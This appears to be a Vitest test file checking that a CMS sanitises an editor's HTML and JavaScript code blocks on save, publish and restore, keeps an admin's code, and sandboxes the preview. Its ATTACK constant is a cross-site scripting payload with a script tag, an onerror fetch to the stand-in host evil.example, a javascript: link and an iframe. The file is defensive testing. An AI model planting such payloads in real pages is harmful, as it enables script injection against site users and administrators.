import { expect, it } from 'vitest';
import type { LightMyRequestResponse } from 'fastify';
import { ownerVisitor } from '../../test-support/owner.ts';
import { forEachStore, Visitor } from '../../test-support/test-app.ts';

/*
 * Issue 36: an EDITOR's code cannot run as the ADMIN who opens the page. Without
 * content:unfiltered-html the HTML of a code block is sanitised and its JavaScript removed when the
 * draft is saved, published or restored; an ADMIN's stays as written. The preview is sandboxed.
 */

const ATTACK = `<p>Opening hours</p><script>fetch('/api/owner/contributors',{method:'POST'})</script><img src="/x.png" alt="Shop" onerror="fetch('//evil.example')"><a href="javascript:alert(1)">map</a><iframe src="/config"></iframe>`;
const CLEANED = '<p>Opening hours</p><img src="/x.png" alt="Shop" /><a>map</a>';
const SCRIPT = "fetch('/api/owner/contributors', { method: 'POST' })";
const code = (id: string, language: 'html' | 'css' | 'javascript', source: string, display: 'render' | 'source' = 'render') => ({ id, type: 'code', language, source, display });
const doc = (...blocks: unknown[]) => ({ version: 1, sections: [{ id: 's1', blocks }] });

forEachStore('editor: code from a contributor without unfiltered HTML', (store) => {
  const json = (response: LightMyRequestResponse) => response.json() as Record<string, any>;
  const blocks = async (owner: Visitor, url: string) => json(await owner.request({ method: 'GET', url })).document.sections[0].blocks as Array<Record<string, unknown>>;

  async function newPage(owner: Visitor, title: string): Promise<{ id: string; fullUrl: string; url: string }> {
    const page = json(await owner.send('POST', '/api/owner/pages', { title })).page as { id: string; fullUrl: string };
    return { ...page, url: `/api/owner/editor/pages/${page.id}/document` };
  }

  it("sanitises an EDITOR's HTML and removes their running JavaScript on save; CSS and code shown to read stay", async () => {
    const editor = await ownerVisitor(store, 'EDITOR');
    const page = await newPage(editor, 'Editor code');
    const saved = await editor.send('PUT', page.url, {
      document: doc(code('html', 'html', ATTACK), code('js', 'javascript', SCRIPT), code('css', 'css', 'h1 { color: red }'), code('shown', 'html', ATTACK, 'source')),
      baseRevision: 0,
    });
    expect(saved.statusCode).toBe(200);
    const [html, js, css, shown] = await blocks(editor, page.url);
    expect(html).toMatchObject({ language: 'html', source: CLEANED });
    expect(js).toMatchObject({ language: 'javascript', source: '' });
    expect(css).toMatchObject({ source: 'h1 { color: red }' });
    // Shown as code, escaped: nothing runs, so the text is kept.
    expect(shown).toMatchObject({ source: ATTACK, display: 'source' });

    // Published, the page visitors get has none of it.
    expect((await editor.send('POST', `${page.url.replace(/\/document$/, '')}/publish`, { revision: 1 })).statusCode).toBe(200);
    const live = await new Visitor(() => store.app).request({ method: 'GET', url: page.fullUrl });
    expect(live.statusCode).toBe(200);
    expect(live.body).toContain('Opening hours');
    // The block shown as code carries the text escaped; nothing of it is markup.
    expect(live.body).not.toContain('<script>fetch');
    expect(live.body).not.toMatch(/<img[^>]*onerror/);
    expect(live.body).not.toContain('<a href="javascript:');
    expect(live.body).not.toContain('<iframe');
    expect(live.body).toContain('&lt;script&gt;fetch');
  });

  it("keeps an ADMIN's code as written, and cleans it when an EDITOR publishes or restores it (WordPress's model)", async () => {
    const admin = await ownerVisitor(store, 'ADMIN');
    const editor = await ownerVisitor(store, 'EDITOR');
    const page = await newPage(admin, 'Admin code');
    const base = page.url.replace(/\/document$/, '');
    expect((await admin.send('PUT', page.url, { document: doc(code('html', 'html', ATTACK), code('js', 'javascript', SCRIPT)), baseRevision: 0 })).statusCode).toBe(200);
    expect(await blocks(admin, page.url)).toMatchObject([{ source: ATTACK }, { source: SCRIPT }]);
    const published = await admin.send('POST', `${base}/publish`, { revision: 1 });
    expect(published.statusCode).toBe(200);
    const live = await new Visitor(() => store.app).request({ method: 'GET', url: page.fullUrl });
    expect(live.body).toContain(`<script>${SCRIPT}</script>`);

    // The ADMIN saves again; the EDITOR publishes that draft: what goes live is cleaned, and so is the draft.
    expect((await admin.send('PUT', page.url, { document: doc(code('html', 'html', `${ATTACK}<p>v2</p>`), code('js', 'javascript', SCRIPT)), baseRevision: 1 })).statusCode).toBe(200);
    expect((await editor.send('POST', `${base}/publish`, { revision: 2 })).statusCode).toBe(200);
    expect(await blocks(editor, page.url)).toMatchObject([{ source: `${CLEANED}<p>v2</p>` }, { source: '' }]);
    const after = await new Visitor(() => store.app).request({ method: 'GET', url: page.fullUrl });
    expect(after.body).toContain('v2');
    expect(after.body).not.toContain(SCRIPT);

    // Restoring the ADMIN's first version: an EDITOR gets it back cleaned.
    const versions = json(await editor.request({ method: 'GET', url: `${base}/versions` })).versions as Array<{ id: string; revision: number }>;
    const first = versions.find((version) => version.revision === 1)!;
    const restored = await editor.send('POST', `${base}/versions/${first.id}/restore`);
    expect(restored.statusCode).toBe(200);
    expect(json(restored).document.sections[0].blocks).toMatchObject([{ source: CLEANED }, { source: '' }]);
  });

  it('answers the preview with a sandbox policy and a frame script that only speaks to the editor', async () => {
    const admin = await ownerVisitor(store, 'ADMIN');
    const page = await newPage(admin, 'Sandboxed');
    await admin.send('PUT', page.url, { document: doc(code('js', 'javascript', SCRIPT)), baseRevision: 0 });
    const preview = await admin.request({ method: 'GET', url: page.url.replace(/\/document$/, '/preview'), headers: { host: 'shop.example:8080' } });
    expect(preview.statusCode).toBe(200);
    expect(preview.headers['content-security-policy']).toBe('sandbox allow-scripts allow-forms allow-popups allow-popups-to-escape-sandbox');
    // The ADMIN's draft runs — inside the sandbox, on an opaque origin.
    expect(preview.body).toContain(`<script>${SCRIPT}</script>`);
    expect(preview.body).toContain(`"plinth-preview:scrolled",y:-1},"http://shop.example:8080")`);
  });
});
